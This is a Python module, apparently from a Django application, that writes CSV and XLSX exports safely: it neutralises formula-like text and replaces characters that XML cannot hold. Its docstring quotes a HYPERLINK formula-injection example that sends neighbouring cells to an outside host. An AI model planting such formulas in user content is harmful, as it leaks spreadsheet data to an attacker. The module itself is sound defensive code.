"""A safe spreadsheet cell, for every export (the comment matrix, the pathfinder board, the
lists of action items, meetings and events), and the one writer of a table as CSV or XLSX.

What members and the public type ends up in files the secretariat opens in Excel or
LibreOffice. A cell must show that text, never run it: `=HYPERLINK("http://…?"&C2, "see")`
in a comment would otherwise send the neighbouring cells to whoever wrote it. And a character
that XML cannot hold (a vertical tab pasted from Word) must not make the XLSX export fail.
Every exported value passes through `csv_value` or `xlsx_cell`; nothing else writes a cell.
"""

import csv
import dataclasses
import datetime
import re
import tempfile
from collections.abc import Iterable, Sequence

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

# Excel and LibreOffice read a CSV cell starting with one of these as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Everything outside XML 1.0's Char production: C0 controls other than tab, line feed and
# carriage return; lone surrogates; U+FFFE and U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# Word pastes a line break inside a paragraph as a vertical tab and a page break as a form feed.
_LINE_BREAKS = re.compile("[\x0b\x0c]")


def cell_text(text: str) -> str:
    """The text as a spreadsheet can hold it, the same in CSV and XLSX.

    A vertical tab or form feed becomes the line break the writer meant. Any other character
    XML cannot hold becomes U+FFFD (�) rather than vanishing: "5", NUL, "8" must not read "58",
    and the reader sees that something was there.
    """
    return _NOT_XML.sub("\ufffd", _LINE_BREAKS.sub("\n", text))


def csv_value(value):
    """A CSV field: text that a spreadsheet would take for a formula gets a leading
    apostrophe (OWASP's advice; Excel then shows it as text); dates and times as ISO text;
    numbers stay numbers."""
    if isinstance(value, datetime.datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        text = cell_text(value)
        return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    return value


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows):
    """CSV lines, one at a time, for a streaming response: UTF-8 with a BOM so that Excel
    reads accents right (LibreOffice skips the BOM too)."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    for row in rows:
        yield writer.writerow([csv_value(value) for value in row])


def xlsx_cell(sheet, value) -> WriteOnlyCell:
    """A cell for a write-only sheet: text is always a string cell, never a formula or an
    error, and keeps its exact characters (no apostrophe needed: the cell type says "text");
    numbers and dates keep their type so that they sort and sum. (A carriage return reads back
    as a line feed: XML 1.0 readers normalise line ends.)"""
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=value)
    cell = WriteOnlyCell(sheet, value=cell_text(value))
    cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error
    return cell


# --- a table as a file -----------------------------------------------------------------------
# Every export is a header and rows of Python values, written row by row as the rows come from
# the database (`.iterator(chunk_size=...)`): 10,000 rows cost the memory of a few.


@dataclasses.dataclass(frozen=True)
class Column:
    """A column of an export: its header (a lazy translation, written in the reader's language),
    its width in characters in XLSX, and whether its text wraps there."""

    header: str
    width: int = 16
    wraps: bool = False


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
DATE_FORMATS = {datetime.datetime: "yyyy-mm-dd hh:mm", datetime.date: "yyyy-mm-dd"}


def local_time(moment: datetime.datetime | None) -> datetime.datetime | None:
    """Spreadsheets know no time zones: the reader's local time (their account's zone), without
    the zone, to the second."""
    return timezone.localtime(moment).replace(tzinfo=None, microsecond=0) if moment else None


def table_csv(columns: Sequence[Column], rows: Iterable) -> Iterable[str]:
    return csv_lines(_with_header(columns, rows))


def table_xlsx(columns: Sequence[Column], rows: Iterable, *, sheet_title: str):
    """A write-only workbook (openpyxl keeps no row in memory) in a temporary file: header bold
    and frozen, columns sized, text wrapped where the column says so, dates as dates."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=str(sheet_title)[:31])  # Excel's limit
    sheet.freeze_panes = "A2"
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    wrap = Alignment(wrap_text=True, vertical="top")
    top = Alignment(vertical="top")
    bold = Font(bold=True)
    header = []
    for column in columns:
        cell = xlsx_cell(sheet, str(column.header))
        cell.font, cell.alignment = bold, wrap
        header.append(cell)
    sheet.append(header)
    for row in rows:
        cells = []
        for column, value in zip(columns, row, strict=True):
            cell = xlsx_cell(sheet, value)
            cell.alignment = wrap if column.wraps else top
            if type(value) in DATE_FORMATS:
                cell.number_format = DATE_FORMATS[type(value)]
            cells.append(cell)
        sheet.append(cells)
    handle = tempfile.TemporaryFile()  # noqa: SIM115  (FileResponse closes it)
    workbook.save(handle)
    handle.seek(0)
    return handle


def table_response(
    columns: Sequence[Column], rows: Iterable, *, extension: str, name: str, sheet_title: str
):
    """The table as a download, `name.csv` or `name.xlsx`. CSV is streamed line by line as the
    rows are read; XLSX is written to a temporary file, then sent from it in blocks."""
    filename = f"{name}.{extension}"
    if extension == "xlsx":
        return FileResponse(
            table_xlsx(columns, rows, sheet_title=sheet_title),
            as_attachment=True,
            filename=filename,
            content_type=CONTENT_TYPES["xlsx"],
        )
    response = StreamingHttpResponse(table_csv(columns, rows), content_type=CONTENT_TYPES["csv"])
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


def _with_header(columns, rows):
    yield [str(column.header) for column in columns]
    yield from rows
